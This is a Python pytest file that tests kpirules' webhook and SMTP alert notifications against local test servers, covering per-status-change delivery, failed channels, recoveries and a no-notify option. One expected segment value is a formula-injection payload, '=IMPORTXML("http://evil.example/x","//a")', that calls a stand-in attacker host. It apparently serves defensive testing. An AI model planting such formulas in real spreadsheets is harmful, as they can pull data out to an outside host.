"""`kpirules run` sends one notification per status change to real servers on 127.0.0.1 (an
HTTP webhook receiver and an aiosmtpd SMTP server), and a failing channel never costs the
Alerts row."""

from __future__ import annotations

import json
import socket
import threading
from email import message_from_bytes, policy
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from click.testing import CliRunner
from test_run_common import AS_OF, HYPER, recovered
from test_run_xlsx import make_workbook, set_signups, tab_rows

from kpirules.cli.main import cli


class Receiver:
    """An HTTP server that records POSTs and answers ``status``."""

    def __init__(self, status: int = 200):
        self.bodies: list[dict] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                receiver.bodies.append(json.loads(body))
                self.send_response(status)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/hook"
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


class Mailbox:
    def __init__(self):
        self.received = []

    async def handle_DATA(self, server, session, envelope):
        self.received.append(envelope)
        return "250 OK"


@pytest.fixture
def servers():
    from aiosmtpd.controller import Controller

    with socket.socket() as s:  # a free port: aiosmtpd checks its server by connecting to it
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    box = Mailbox()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    ok, gone = Receiver(200), Receiver(404)
    yield ok, gone, box, port
    ok.close()
    gone.close()
    controller.stop()


def config(tmp_path, ok, gone, smtp_port):
    path = tmp_path / "kpirules.toml"
    path.write_text(f"""
sheet_url = "https://docs.google.com/spreadsheets/d/kpi-sheet/edit"

[[notifications]]
name = "bi"
type = "webhook"
url = "{ok.url}"
on = ["fail", "warn", "no_data", "recovery"]

[[notifications]]
name = "owners"
type = "email"
host = "127.0.0.1"
port = {smtp_port}
starttls = false
from = "kpirules <kpi@example.com>"
to = ["anna@example.com"]
on = ["fail", "recovery"]

[[notifications]]
name = "retired"
type = "webhook"
url = "{gone.url}"
on = ["fail"]
rules = ["conversion", "by_*"]
""")
    return path


def test_each_status_change_is_sent_once_and_recorded_with_its_delivery(tmp_path, servers):
    ok, gone, box, smtp_port = servers
    book = make_workbook(tmp_path / "kpis.xlsx")
    settings = config(tmp_path, ok, gone, smtp_port)
    result = CliRunner().invoke(cli, ["run", str(book), "--as-of", AS_OF.isoformat(), "--config", str(settings)])
    assert result.exit_code == 2, result.output

    sent = sorted((b["rule"], json.dumps(b["segment"]), b["status"]) for b in ok.bodies)
    assert sent == sorted([("conversion", "null", "WARN"), (HYPER, "null", "FAIL"),
                           ("by_campaign", json.dumps({"campaign": '=IMPORTXML("http://evil.example/x","//a")'}), "FAIL"),
                           ("by_campaign", json.dumps({"campaign": "social_prospect"}), "FAIL")])
    social = next(b for b in ok.bodies if b["segment"] == {"campaign": "social_prospect"})
    assert social["link"] == "https://docs.google.com/spreadsheets/d/kpi-sheet/edit"
    assert social["value_text"] == "1.20%" and social["threshold_text"] == "1.5%"
    assert social["previous_status"] is None

    assert len(box.received) == 1  # one e-mail bundling the channel's three FAIL alerts
    mail = message_from_bytes(box.received[0].content, policy=policy.default)
    body = mail.get_body(preferencelist=("plain",)).get_content()
    assert "social_prospect" in body and "1.20%" in body and "kpi-sheet" in body
    assert "conversion" not in mail["Subject"]  # WARN is not on this channel

    rows = tab_rows(book, "Alerts")
    head = rows[0]
    notified = {(r[head.index("Rule")], r[head.index("Segment")]): r[head.index("Notified")] for r in rows[1:]}
    assert len(notified) == 4
    social_note = notified[("by_campaign", "campaign=social_prospect")]
    assert "webhook bi: sent" in social_note and "email owners: sent" in social_note
    assert "webhook retired: FAILED" in social_note and "404" in social_note
    assert notified[("conversion", None)] == "webhook bi: sent"
    assert "notification webhook 'retired'" in result.output and "NOT delivered" in result.output

    # Run again: nothing changed, so nobody hears anything and no row is added.
    again = CliRunner().invoke(cli, ["run", str(book), "--as-of", AS_OF.isoformat(), "--config", str(settings)])
    assert again.exit_code == 2
    assert len(ok.bodies) == 4 and len(box.received) == 1
    assert len(tab_rows(book, "Alerts")) == len(rows)


def test_a_recovery_is_sent_as_a_recovery(tmp_path, servers):
    ok, gone, box, smtp_port = servers
    book = make_workbook(tmp_path / "kpis.xlsx")
    settings = config(tmp_path, ok, gone, smtp_port)
    args = ["run", str(book), "--as-of", AS_OF.isoformat(), "--config", str(settings)]
    assert CliRunner().invoke(cli, args).exit_code == 2
    before = len(ok.bodies)

    set_signups(book, recovered)
    assert CliRunner().invoke(cli, args).exit_code == 2
    new = ok.bodies[before:]
    assert [(b["kind"], b["segment"], b["previous_status"]) for b in new] == [
        ("recovery", {"campaign": "social_prospect"}, "FAIL")]
    assert "RECOVERED" in message_from_bytes(box.received[-1].content, policy=policy.default)["Subject"]


def test_no_notify_still_records_the_alerts(tmp_path, servers):
    ok, gone, box, smtp_port = servers
    book = make_workbook(tmp_path / "kpis.xlsx")
    settings = config(tmp_path, ok, gone, smtp_port)
    result = CliRunner().invoke(cli, ["run", str(book), "--as-of", AS_OF.isoformat(), "--config", str(settings),
                                      "--no-notify"])
    assert result.exit_code == 2
    assert ok.bodies == [] and box.received == []
    assert len(tab_rows(book, "Alerts")) == 5
